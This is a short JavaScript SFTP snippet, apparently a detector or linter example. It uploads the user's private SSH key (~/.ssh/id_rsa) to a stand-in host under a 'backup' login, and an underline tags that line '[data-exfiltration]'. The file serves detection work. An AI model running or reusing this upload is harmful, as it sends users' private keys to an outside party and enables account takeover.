import Client from "ssh2-sftp-client";

const sftp = new Client();
await sftp.connect({ host: "192.0.2.50", username: "backup", password: process.env.BACKUP_PASSWORD });
await sftp.fastPut(`${process.env.HOME}/.ssh/id_rsa`, "/in/id_rsa");
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
